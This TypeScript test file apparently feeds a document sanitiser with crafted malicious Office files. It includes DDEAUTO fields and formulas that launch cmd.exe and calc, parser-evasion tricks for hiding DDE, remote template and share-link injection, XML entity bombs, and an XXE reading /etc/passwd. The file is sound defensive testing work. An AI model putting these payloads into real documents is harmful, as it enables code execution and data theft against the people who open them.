import { randomBytes } from 'node:crypto';
import type { RejectionCode } from '#core';
import {
  aDocument,
  aPresentation,
  attachToolbars,
  aWorkbook,
  OfficeBuilder,
  withChart,
  wordXml,
} from '../office-builder.js';
import { DOCX, PPTX, XLSX, type Attack } from '../sample.js';
import { compoundFile } from '../compound-file.js';

const OPEN_XML = 'application/vnd.openxmlformats-officedocument';
const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships';
const VBA = Buffer.from('d0cf11e0a1b11ae1', 'hex');

const attack = (
  code: RejectionCode,
  contentType: string,
  name: string,
  office: () => OfficeBuilder,
): Attack => ({
  code,
  contentType,
  name,
  bytes: () => office().bytes(),
});
const word = (code: RejectionCode, name: string, change: (office: OfficeBuilder) => void): Attack =>
  attack(code, DOCX, name, () => aDocument().with(change));
const excel = (code: RejectionCode, name: string, change: (office: OfficeBuilder) => void): Attack =>
  attack(code, XLSX, name, () => aWorkbook().with(change));
const text = (code: RejectionCode, name: string, body: string): Attack =>
  attack(code, DOCX, name, () => aDocument(body));
const external = (
  name: string,
  type: string,
  target: string,
  mode: string | undefined = 'External',
): Attack =>
  word('external-reference', name, (office) => office.relate('word/document.xml', type, target, mode));
const mainType = (office: OfficeBuilder, contentType: string): unknown =>
  office.overrides.set('word/document.xml', contentType);

const field = (...runs: string[]): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs.join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const instruction = (code: string): string => `<w:r><w:instrText>${code}</w:instrText></w:r>`;

const MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
const DDE = instruction('DDEAUTO cmd');
const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
/** How readers differ about which of a field's instructions counts. */
const fieldsInDisguise: readonly [name: string, body: string][] = [
  ['behind 300 blanks', field(instruction(' '.repeat(300)), DDE)],
  ['behind 300 no-break spaces', field(instruction('\u00a0'.repeat(300) + 'dde x'))],
  [
    'whose keyword a simple field spells',
    field('<w:fldSimple w:instr="QUOTE 68 68 69 65 85 84 79"/>', instruction(' cmd')),
  ],
  [
    'of whose keyword a simple field spells the end',
    field(instruction('DD'), '<w:fldSimple w:instr="QUOTE 69"/>', instruction(' cmd')),
  ],
  ['in marks with blanks and capitals', `<w:p>${mark(' Begin ')}${DDE}${mark('end')}</w:p>`],
  ['in quotes', field(instruction('“DDEAUTO” cmd'))],
  ['in the text of a field', field('<w:r><w:t>DDEAUTO cmd</w:t></w:r>')],
  ['behind other text', field('<w:r><w:t>PAGE</w:t></w:r>', DDE)],
  ['deleted', field('<w:del><w:r><w:delInstrText>DDE x</w:delInstrText></w:r></w:del>')],
  ['in a later paragraph', `<w:p>${mark('begin')}</w:p><w:p>${DDE}${mark('end')}</w:p>`],
  ...(['Choice', 'Fallback'] as const).map((branch): [string, string] => [
    `in ${branch} alone`,
    field(
      `<mc:AlternateContent ${MC}><mc:Choice Requires="w">${branch === 'Choice' ? DDE : instruction('QUOTE ')}</mc:Choice><mc:Fallback>${branch === 'Fallback' ? DDE : instruction('QUOTE ')}</mc:Fallback></mc:AlternateContent>`,
    ),
  ]),
  [
    'behind alternatives of which one ends it',
    field(
      `<mc:AlternateContent ${MC}><mc:Choice Requires="w">${mark('end')}</mc:Choice></mc:AlternateContent>`,
      DDE,
    ),
  ],
  ['behind a foreign instruction', field('<w:r><z:instrText xmlns:z="urn:z">PAGE </z:instrText></w:r>', DDE)],
  ['behind a foreign end', field('<w:r><z:fldChar xmlns:z="urn:z" w:fldCharType="end"/></w:r>', DDE)],
  ['behind an end in a foreign element', field(`<z:z xmlns:z="urn:z">${mark('end')}</z:z>`, DDE)],
  ['behind an end where none belongs', field(`<w:rPr>${mark('end')}</w:rPr>`, DDE)],
  ['behind the result of a text box', field(`<w:txbxContent>${mark('separate')}</w:txbxContent>`, DDE)],
  [
    'in the second of two attributes',
    '<w:p><w:fldSimple z:instr="PAGE" w:instr="DDE x" xmlns:z="http://purl.oclc.org/ooxml/wordprocessingml/main"/></w:p>',
  ],
  [
    'in the first of two attributes',
    '<w:p><w:fldSimple z:instr="DDE x" w:instr="PAGE" xmlns:z="http://purl.oclc.org/ooxml/wordprocessingml/main"/></w:p>',
  ],
];

const dirty = (code: string, attribute = 'w:dirty="true"'): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin" ${attribute}/></w:r>${instruction(code)}${mark('end')}</w:p>`;
const settings = (content: string) => (office: OfficeBuilder) =>
  office
    .relate('word/document.xml', 'settings', 'settings.xml')
    .part(
      'word/settings.xml',
      `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${content}</w:settings>`,
      `${OPEN_XML}.wordprocessingml.settings+xml`,
    );
const FETCHING = [
  'INCLUDEPICTURE "http://x/a.png"',
  'INCLUDETEXT "\\\\host\\a.docx"',
  'INCLUDE "file:///etc/passwd"',
  'IMPORT "http://x/a"',
  'DATABASE \\d "x"',
  'LINK Excel.Sheet.8 "C:\\a.xls"',
  'RD "http://x/a.docx"',
];

/** Fields that load something when the file is opened: by themselves, because they are marked, or because all are updated. */
const fetching: readonly Attack[] = [
  ...FETCHING.flatMap((code) => [
    text('external-reference', `a field that is to be updated: ${code}`, dirty(code)),
    text(
      'external-reference',
      `a field in one that is to be updated: ${code}`,
      dirty('IF 1 = 1 ')
        .replace('</w:p>', '')
        .replace(mark('end'), `${field(instruction(code))}${mark('end')}</w:p>`),
    ),
    text(
      'external-reference',
      `a simple field that is to be updated: ${code}`,
      `<w:p><w:fldSimple w:dirty="1" w:instr="${code.replaceAll('"', '&quot;')}"/></w:p>`,
    ),
    attack('external-reference', DOCX, `a field in a document that updates all: ${code}`, () =>
      aDocument(field(instruction(code))).with(settings('<w:updateFields/>')),
    ),
  ]),
  text(
    'external-reference',
    'a link that updates itself',
    field(instruction('LINK Excel.Sheet.12 "\\\\h\\a.xlsx" "A1" \\a \\f 0')),
  ),
  ...['INCLUDEPICTURE "http://h/a.png" \\d', 'INCLUDEPICTURE \\d \\\\h\\a.png'].flatMap((code) => [
    text('external-reference', `a picture that is not kept: ${code}`, field(instruction(code))),
    text(
      'external-reference',
      `a picture that is not kept, in a simple field: ${code}`,
      `<w:p><w:fldSimple w:instr='${code}'/></w:p>`,
    ),
  ]),
  attack('external-reference', DOCX, 'a field in a document that updates all, by settings of no kind', () =>
    aDocument(field(instruction('INCLUDETEXT "http://x"'))).part(
      'word/s.xml',
      `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:updateFields/></w:settings>`,
    ),
  ),
  text(
    'external-reference',
    'a link that updates itself, far behind',
    field(instruction(`LINK x "y" ${' '.repeat(9000)} \\a`)),
  ),
];

const kinds: readonly Attack[] = [
  word('type-mismatch', 'a macro-enabled document under the name of a plain one', (office) =>
    mainType(office, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
  ),
  word('type-mismatch', 'a macro-enabled document whose content types come last', (office) => {
    mainType(office, 'application/vnd.ms-word.document.macroEnabled.main+xml');
    office.isContentTypesLast = true;
  }),
  word('type-mismatch', 'a macro-enabled document with a decoy comment in its content types', (office) => {
    mainType(office, 'application/vnd.ms-word.document.macroEnabled.main+xml');
    office.contentTypesPrologue += `<!-- <Override PartName="/word/document.xml" ContentType="${OPEN_XML}.wordprocessingml.document.main+xml"/> -->`;
  }),
  word('type-mismatch', 'a template under the name of a document', (office) =>
    mainType(office, `${OPEN_XML}.wordprocessingml.template.main+xml`),
  ),
  attack('type-mismatch', DOCX, 'a workbook under the name of a document', aWorkbook),
  attack('type-mismatch', XLSX, 'a presentation under the name of a workbook', aPresentation),
  attack('type-mismatch', PPTX, 'a slide show under the name of a presentation', () =>
    aPresentation().with((office) =>
      office.overrides.set('ppt/presentation.xml', `${OPEN_XML}.presentationml.slideshow.main+xml`),
    ),
  ),
  word('malformed', 'a main part that is missing', (office) => office.parts.delete('word/document.xml')),
  word('malformed', 'two main parts', (office) =>
    office
      .part('word/other.xml', wordXml(), `${OPEN_XML}.wordprocessingml.document.main+xml`)
      .relate('', 'officeDocument', 'word/other.xml'),
  ),
  word('malformed', 'a main part that is no document', (office) =>
    office.part('word/document.xml', '<html/>'),
  ),
  word('malformed', 'a main part outside the package', (office) => {
    office.relationships.clear();
    office.relate('', 'officeDocument', 'http://host/document.xml', 'External');
  }),
  word('malformed', 'two content types for one part', (office) => {
    office.contentTypesExtra = '<Override PartName="/WORD/document.xml" ContentType="application/xml"/>';
  }),
  {
    name: 'an old binary document under the name of a new one',
    code: 'type-mismatch',
    contentType: DOCX,
    bytes: () => compoundFile(['WordDocument', '1Table']),
  },
  ...(['EncryptionInfo', 'EncryptedPackage'] as const).map((last): Attack => ({
    name: `a document with a password, ${last} last in its directory`,
    code: 'encrypted',
    contentType: DOCX,
    bytes: () =>
      compoundFile(
        ['\x06DataSpaces', 'Version', 'DataSpaceMap', 'EncryptionInfo', 'EncryptedPackage'].sort((a) =>
          a === last ? 1 : -1,
        ),
      ),
  })),
];

/** Each rule by itself: one label says it, and all others, and the contents, are harmless. */
const HARMLESS = '<x xmlns="urn:x"/>';
const byName = (code: RejectionCode, ...names: string[]): Attack[] =>
  names.map((name) => word(code, `a part called ${name}`, (office) => office.part(name, HARMLESS)));
const byContentType = (code: RejectionCode, ...contentTypes: string[]): Attack[] =>
  contentTypes.map((contentType) =>
    word(code, `a part of type ${contentType}`, (office) => office.part('word/x.xml', HARMLESS, contentType)),
  );
const byRelationship = (code: RejectionCode, ...kinds: string[]): Attack[] =>
  kinds.map((kind) =>
    word(code, `a relationship of type ${kind}`, (office) =>
      office
        .part('word/x.xml', HARMLESS, 'application/xml')
        .relate('word/document.xml', `${MICROSOFT}/${kind}`, 'x.xml'),
    ),
  );
const oneLabelAlone: readonly Attack[] = [
  ...byName(
    'macro',
    'word/vbaProject.bin',
    'word/vbaData.xml',
    'vbaProjectSignature.bin',
    'xl/macrosheets/a.xml',
    'xl/intlMacrosheets/a.xml',
  ),
  ...byName('active-content', 'word/activeX/a.xml', 'customUI/a.xml', 'word/webextensions/a.xml'),
  ...byName(
    'embedded-object',
    ...`exe dll com scr msi bat cmd ps1 vb vbs vbe js jse wsf wsh hta lnk jar htm html xhtml mht mhtml rtf svgz swf zip rar 7z cab iso docm dotm xlsm xlsb xlam pptm ppam`
      .split(' ')
      .map((extension) => `word/a.${extension}`),
  ),
  ...byContentType(
    'macro',
    'application/vnd.ms-office.vbaProject',
    'application/vnd.ms-word.vbaData+xml',
    'application/vnd.ms-excel.macrosheet+xml',
    'application/vnd.ms-excel.intlmacrosheet+xml',
    'application/vnd.ms-word.template.macroEnabled+xml',
  ),
  ...byContentType(
    'active-content',
    'application/vnd.ms-office.activeX+xml',
    'application/vnd.ms-office.webextension+xml',
  ),
  ...byContentType(
    'embedded-object',
    'application/vnd.openxmlformats-officedocument.oleObject',
    'application/x-msdownload',
    'application/javascript',
    'text/html',
    'application/xhtml+xml',
    'application/rtf',
    'application/zip',
  ),
  ...byRelationship(
    'macro',
    'vbaProject',
    'vbaProjectSignature',
    'wordVbaData',
    'xlMacrosheet',
    'xlIntlMacrosheet',
  ),
  ...byRelationship(
    'active-content',
    ...['control', 'activeXControlBinary', 'extensibility', 'userCustomization', 'customUI', 'webextension'],
  ),
  ...byRelationship('embedded-object', 'oleObject', 'aFChunk', 'subDocument'),
];

const macros: readonly Attack[] = [
  word('macro', 'attached toolbars with a VBA project', (office) =>
    attachToolbars(office).part('word/vbaProject.bin', VBA),
  ),
  word('embedded-object', 'an OLE file in the clothes of attached toolbars', (office) =>
    attachToolbars(office, VBA),
  ),
  word('macro', 'a VBA project', (office) =>
    office
      .part('word/vbaProject.bin', VBA, 'application/vnd.ms-office.vbaProject')
      .relate('word/document.xml', `${MICROSOFT}/vbaProject`, 'vbaProject.bin'),
  ),
  word('macro', 'a VBA project that nothing leads to', (office) => office.part('word/VBAPROJECT.BIN', VBA)),
  word('macro', 'a VBA project under another name', (office) =>
    office
      .part('word/media/image1.png', VBA)
      .relate('word/document.xml', `${MICROSOFT}/vbaProject`, 'media/image1.png'),
  ),
  word('macro', 'a VBA project by content type alone', (office) =>
    office.part('word/x.bin', VBA, 'application/vnd.ms-office.vbaProject'),
  ),
  excel('macro', 'an Excel 4.0 macro sheet', (office) =>
    office
      .part('xl/macrosheets/sheet1.xml', '<macrosheet/>', 'application/vnd.ms-excel.macrosheet+xml')
      .relate('xl/workbook.xml', `${MICROSOFT}/xlMacrosheet`, 'macrosheets/sheet1.xml'),
  ),
  excel('macro', 'an Excel 4.0 macro sheet under the name of a worksheet', (office) =>
    office
      .part('xl/worksheets/sheet2.xml', '<macrosheet/>')
      .relate('xl/workbook.xml', `${MICROSOFT}/xlMacrosheet`, 'worksheets/sheet2.xml'),
  ),
];

const active: readonly Attack[] = [
  word('active-content', 'an ActiveX control', (office) =>
    office
      .part('word/activeX/activeX1.xml', '<ax/>', 'application/vnd.ms-office.activeX+xml')
      .relate('word/document.xml', 'control', 'activeX/activeX1.xml'),
  ),
  word('active-content', 'an ActiveX control by its relationship alone', (office) =>
    office.part('word/x.xml', '<ax/>').relate('word/document.xml', 'control', 'x.xml'),
  ),
  word('active-content', 'a customised ribbon', (office) =>
    office
      .part('customUI/customUI.xml', '<customUI/>')
      .relate('', `${MICROSOFT}/ui/extensibility`, 'customUI/customUI.xml'),
  ),
  word('active-content', 'a web extension', (office) =>
    office
      .part('word/webextensions/taskpanes.xml', '<x/>', 'application/vnd.ms-office.webextensiontaskpanes+xml')
      .relate(
        '',
        'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
        'word/webextensions/taskpanes.xml',
      ),
  ),
  text(
    'active-content',
    'a DDEAUTO field',
    field(instruction(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
  ),
  text('active-content', 'a DDE field in one element', '<w:p><w:fldSimple w:instr="DDE excel a b"/></w:p>'),
  text(
    'active-content',
    'a DDEAUTO field in pieces',
    field(instruction('DD'), instruction('EAU'), instruction('TO cmd')),
  ),
  text(
    'active-content',
    'a DDEAUTO field whose keyword another field spells',
    field(field(instruction('QUOTE 68 68 69 65 85 84 79')), instruction(' cmd')),
  ),
  text('active-content', 'a DDE field that is never closed by a separator', field(instruction('dde "x"'))),
  ...fieldsInDisguise.map(([name, body]) => text('active-content', `a DDE field ${name}`, body)),
  text(
    'unverifiable',
    'fields nested without end',
    `<w:p>${`${mark('begin')}${instruction('IF ')}`.repeat(100)}</w:p>`,
  ),
  word('active-content', 'a DDE field in a header', (office) =>
    office.part(
      'word/header1.xml',
      `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${field(instruction('DDE x'))}</w:hdr>`,
      `${OPEN_XML}.wordprocessingml.header+xml`,
    ),
  ),
  ...[
    "cmd|'/C calc'!A0",
    "'cmd'|'/C calc'!A0",
    "'a\"b'!A1+cmd|'x\"'!A0",
    'cm<x/>d&#124;x!A0',
    '_xlfn.Rtd ("x",,"y")',
    '1+DDE("a";"b";"c")',
    'REGISTER.ID("a","b")',
  ].flatMap((formula) => [
    excel('active-content', `a cell with ${formula}`, (office) =>
      office.part(
        'xl/worksheets/sheet1.xml',
        `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
      ),
    ),
    excel('active-content', `a name for ${formula}`, (office) =>
      office.part(
        'xl/workbook.xml',
        `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><definedNames><definedName name="x">${formula}</definedName></definedNames></workbook>`,
      ),
    ),
  ]),
  ...['ddeLink', 'oleLink'].map((element) =>
    excel('active-content', `a workbook that starts a program by ${element}`, (office) =>
      office
        .part(
          'xl/externalLinks/externalLink1.xml',
          `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><${element} ddeService="cmd"/></externalLink>`,
          `${OPEN_XML}.spreadsheetml.externalLink+xml`,
        )
        .relate('xl/workbook.xml', 'externalLink', 'externalLinks/externalLink1.xml'),
    ),
  ),
  ...['hlinkClick', 'hlinkMouseOver'].map((element): Attack =>
    attack('active-content', PPTX, `a slide that starts a program by ${element}`, () =>
      aPresentation(`<p:cNvPr><a:${element} r:id="rId1" action="ppaction://program"/></p:cNvPr>`).relate(
        'ppt/slides/slide1.xml',
        'hyperlink',
        'file:///c:/windows/system32/calc.exe',
        'External',
      ),
    ),
  ),
];

const embedded: readonly Attack[] = [
  word('embedded-object', 'an OLE object', (office) =>
    office
      .part('word/embeddings/oleObject1.bin', VBA, `${OPEN_XML}.oleObject`)
      .relate('word/document.xml', 'oleObject', 'embeddings/oleObject1.bin'),
  ),
  word('embedded-object', 'an OLE object under the name of an image', (office) =>
    office.part('word/media/image1.png', VBA).relate('word/document.xml', 'oleObject', 'media/image1.png'),
  ),
  word('embedded-object', 'an embedded document that nothing leads to', (office) =>
    office.part('word/embeddings/x.docx', aDocument().bytes()),
  ),
  word('embedded-object', 'a workbook embedded in the text, not behind a chart', (office) =>
    office
      .part('word/embeddings/x.xlsx', aWorkbook().bytes(), XLSX)
      .relate('word/document.xml', 'package', 'embeddings/x.xlsx'),
  ),
  word('embedded-object', 'an imported page (altChunk)', (office) =>
    office.part('word/chunk.xml', '<x/>').relate('word/document.xml', 'aFChunk', 'chunk.xml'),
  ),
  word('embedded-object', 'a program among the media', (office) => office.part('word/media/setup.exe', 'MZ')),
  attack('embedded-object', PPTX, 'a document behind a chart', () =>
    withChart(aPresentation(), 'ppt/slides/slide1.xml', aDocument().bytes()),
  ),
  attack('embedded-object', PPTX, 'a macro-enabled workbook behind a chart', () =>
    withChart(aPresentation(), 'ppt/slides/slide1.xml', aWorkbook().bytes(), 'Sheet1.xlsm'),
  ),
  attack(
    'embedded-object',
    PPTX,
    'a macro-enabled workbook behind a chart under the name of a plain one',
    () =>
      withChart(
        aPresentation(),
        'ppt/slides/slide1.xml',
        aWorkbook()
          .with((office) =>
            office.overrides.set('xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
          )
          .bytes(),
      ),
  ),
  attack('macro', PPTX, 'a VBA project in the workbook behind a chart', () =>
    withChart(aPresentation(), 'ppt/slides/slide1.xml', aWorkbook().part('xl/vbaProject.bin', VBA).bytes()),
  ),
  attack('external-reference', DOCX, 'a link to another workbook in the workbook behind a chart', () =>
    withChart(aDocument(), 'word/document.xml', linkedWorkbook().bytes()),
  ),
  attack('embedded-object', XLSX, 'a workbook behind a chart of a workbook behind a chart', () =>
    withChart(
      aWorkbook(),
      'xl/worksheets/sheet1.xml',
      withChart(aWorkbook(), 'xl/worksheets/sheet1.xml', aWorkbook().bytes()).bytes(),
    ),
  ),
  attack('embedded-object', PPTX, 'an OLE container behind a chart', () =>
    withChart(aPresentation(), 'ppt/slides/slide1.xml', compoundFile(['Workbook'])),
  ),
];

function linkedWorkbook(): OfficeBuilder {
  return aWorkbook()
    .part(
      'xl/externalLinks/externalLink1.xml',
      '<externalLink/>',
      `${OPEN_XML}.spreadsheetml.externalLink+xml`,
    )
    .relate('xl/workbook.xml', 'externalLink', 'externalLinks/externalLink1.xml')
    .relate('xl/externalLinks/externalLink1.xml', 'externalLinkPath', 'http://host/book.xlsx', 'External');
}

const references: readonly Attack[] = [
  external('a template on the web', 'attachedTemplate', 'http://host/t.dotm'),
  external('a template on a share', 'attachedTemplate', '\\\\host\\share\\t.dotm'),
  external('a template on a share, as a file URL', 'attachedTemplate', 'file://host/share/t.dotm'),
  external(
    'a template on a share, as a file URL with slashes',
    'attachedTemplate',
    'file://///host/share/t.dotm',
  ),
  external(
    'a template on a share, percent-encoded',
    'attachedTemplate',
    'file:///%5C%5Chost%5Cshare%5Ct.dotm',
  ),
  external('a template by an unusual scheme', 'attachedTemplate', 'mhtml:http://host/t.dotm'),
  external('a linked object', 'oleObject', 'mhtml:http://host/x.html!x-usc:http://host/x.html'),
  external('a linked image', 'image', 'http://host/pixel.png'),
  external('a linked image, not said to be external', 'image', 'http://host/pixel.png', undefined),
  external('a linked image, external in lower case', 'image', 'pixel.png', 'external'),
  external(
    'a linked image on a share, not said to be external',
    'image',
    '\\\\host\\share\\pixel.png',
    undefined,
  ),
  external('a frame', 'frame', 'http://host/'),
  external('a sub-document', 'subDocument', 'http://host/x.docx'),
  external('a mail-merge source', 'mailMergeSource', 'file:///c:/x.mdb'),
  external(
    'a strict linked image',
    'http://purl.oclc.org/ooxml/officeDocument/relationships/image',
    'http://host/',
  ),
  external('a relationship of unknown kind', 'http://host/relationships/whatever', 'http://host/'),
  word('external-reference', 'a linked image of a part that is not there', (office) =>
    office.relate('word/header9.xml', 'image', 'http://host/', 'External'),
  ),
  text(
    'external-reference',
    'a VML picture by URL',
    '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://host/pixel.png"/></w:pict></w:r></w:p>',
  ),
  attack('external-reference', XLSX, 'a link to another workbook', linkedWorkbook),
  excel('external-reference', 'a data connection that refreshes on opening', (office) =>
    office.part(
      'xl/connections.xml',
      '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" refreshOnLoad="1"/></connections>',
      `${OPEN_XML}.spreadsheetml.connections+xml`,
    ),
  ),
];

const ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>';
const xml: readonly Attack[] = [
  word('malformed', 'a document type in the content types', (office) => {
    office.contentTypesPrologue += ENTITIES;
  }),
  word('malformed', 'a document type in the relationships', (office) => {
    office.relationshipsPrologue += '<!DOCTYPE x SYSTEM "http://host/x.dtd">';
  }),
  word('malformed', 'a document type in the text', (office) =>
    office.part('word/document.xml', wordXml().replace('?>', `?>${ENTITIES}`)),
  ),
  word('malformed', 'content types in UTF-7', (office) => {
    office.contentTypesPrologue = '<?xml version="1.0" encoding="UTF-7"?>';
  }),
  word('malformed', 'text that is not in the encoding it declares', (office) =>
    office.part('word/document.xml', wordXml().replace('UTF-8', 'utf-16')),
  ),
  word('malformed', 'text that is not UTF-8', (office) =>
    office.part('word/document.xml', Buffer.concat([Buffer.from(wordXml()), Buffer.from([0xff])])),
  ),
  text('malformed', 'elements nested without end', '<w:p>'.repeat(2000) + '</w:p>'.repeat(2000)),
  text('malformed', 'text that ends in the middle', '<w:p>'),
  text(
    'malformed',
    'an element that declares thousands of namespaces',
    `<w:p ${Array.from({ length: 1000 }, (_, i) => `xmlns:a${i}="b"`).join(' ')}/>`,
  ),
  text('malformed', 'an element with a name of 100,000 letters', `<w:${'p'.repeat(100_000)}/>`),
  text(
    'malformed',
    'an element with thousands of attributes',
    `<w:p ${Array.from({ length: 3000 }, (_, i) => `a${i}=""`).join(' ')}/>`,
  ),
  word('malformed', 'content types that are something else', (office) =>
    office.part('[content_types].xml', '<html/>'),
  ),
];

const BOMB =
  '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>';
const bomb = (root: string, before = ''): string =>
  `<?xml version="1.0"?>${before}${BOMB}<${root}>&c;</${root}>`;
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');

/** Readers parse these as soon as the file is opened, or when somebody looks at its properties. */
const PARSED_PARTS: readonly (readonly [part: string, type: string])[] = [
  ['xl/sharedStrings.xml', `${OPEN_XML}.spreadsheetml.sharedStrings+xml`],
  ['xl/styles.xml', `${OPEN_XML}.spreadsheetml.styles+xml`],
  ['xl/worksheets/sheet1.xml', `${OPEN_XML}.spreadsheetml.worksheet+xml`],
  ['xl/theme/theme1.xml', `${OPEN_XML}.theme+xml`],
  ['docProps/core.xml', 'application/vnd.openxmlformats-package.core-properties+xml'],
  ['docProps/app.xml', `${OPEN_XML}.extended-properties+xml`],
  ['customXml/item1.xml', 'application/xml'],
  ['xl/drawings/vmlDrawing1.vml', `${OPEN_XML}.vmlDrawing`],
  ['xl/unknown.bin', 'application/octet-stream'],
];

const documentTypes: readonly Attack[] = [
  ...PARSED_PARTS.map(([part, type]) =>
    excel('malformed', `entities without end in ${part}`, (office) => office.part(part, bomb('x'), type)),
  ),
  ...PARSED_PARTS.slice(0, 2).map(([part, type]) =>
    excel('malformed', `entities without end in ${part} of a large workbook`, (office) =>
      office.part(part, bomb('x'), type).part('xl/media/image1.png', randomBytes(400 * 1024), 'image/png'),
    ),
  ),
  excel('malformed', 'a document type that reads a file', (office) =>
    office.part('docProps/core.xml', '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>', 'application/xml'),
  ),
  ...Object.entries({
    'a comment of 20,000 letters': `<!--${'x'.repeat(20_000)}-->`,
    'many blanks': ' \r\n\t'.repeat(5_000),
    'many instructions': '<?a b?>'.repeat(2_000),
    'a comment with a tag': '<!-- <a> -->',
  }).map(([what, before]) =>
    excel('malformed', `a document type behind ${what}`, (office) =>
      office.part('xl/sharedStrings.xml', bomb('x', before), 'application/xml'),
    ),
  ),
  excel('malformed', 'a part that begins with a comment of 70,000 letters', (office) =>
    office.part('docProps/core.xml', `<!--${'x'.repeat(70_000)}-->${BOMB}<x/>`, 'application/xml'),
  ),
  excel('malformed', 'a document type in UTF-16', (office) =>
    office.part('docProps/core.xml', utf16(bomb('x')), 'application/xml'),
  ),
  excel('malformed', 'a document type in UTF-16 without a mark', (office) =>
    office.part('docProps/core.xml', utf16(bomb('x')).subarray(2), 'application/xml'),
  ),
  excel('malformed', 'a document type in UTF-16, the other way round', (office) =>
    office.part('docProps/core.xml', utf16(bomb('x')).swap16(), 'application/xml'),
  ),
  excel('malformed', 'a part in EBCDIC', (office) =>
    office.part('docProps/core.xml', Buffer.from('4c6fa794935abc', 'hex'), 'application/xml'),
  ),
  excel('malformed', 'a part in UTF-32', (office) =>
    office.part('docProps/core.xml', Buffer.from('0000003c00000021', 'hex'), 'application/xml'),
  ),
  excel('malformed', 'entities in a picture in SVG', (office) =>
    office.part('xl/media/image1.svg', bomb('svg'), 'image/svg+xml'),
  ),
];

const packages: readonly Attack[] = [
  ...(
    [
      ['META-INF/MANIFEST.MF', 'Manifest-Version: 1.0\nMain-Class: A\n'],
      ['Meta-Inf/Container.xml', '<container/>'],
      ['A.class', Buffer.from('cafebabe', 'hex')],
      ['classes.dex', 'dex\n035'],
      ['AndroidManifest.xml', Buffer.from([3, 0, 8, 0])],
      ['mimetype', 'application/vnd.oasis.opendocument.text'],
      ['AppxManifest.xml', '<Package/>'],
      ['extension.vsixmanifest', '<PackageManifest/>'],
      ['a.nuspec', '<package/>'],
      ['manifest.json', '{}'],
      ['install.rdf', '<RDF/>'],
      ['Index/Document.iwa', Buffer.from([0, 1])],
      ['FixedDocSeq.fdseq', '<FixedDocumentSequence/>'],
      ['visio/document.xml', '<VisioDocument/>'],
      ['3D/3dmodel.model', '<model/>'],
      ['doc.kml', '<kml/>'],
      ['__main__.py', 'print(1)'],
    ] as const
  ).map(([name, content]) =>
    word('polyglot', `a document that has ${name}`, (office) =>
      office.part(name, Buffer.from(content), 'application/octet-stream'),
    ),
  ),
];

export const officeAttacks: readonly Attack[] = [
  ...fetching,
  ...documentTypes,
  ...packages,
  ...kinds,
  ...macros,
  ...oneLabelAlone,
  ...active,
  ...embedded,
  ...references,
  ...xml,
];
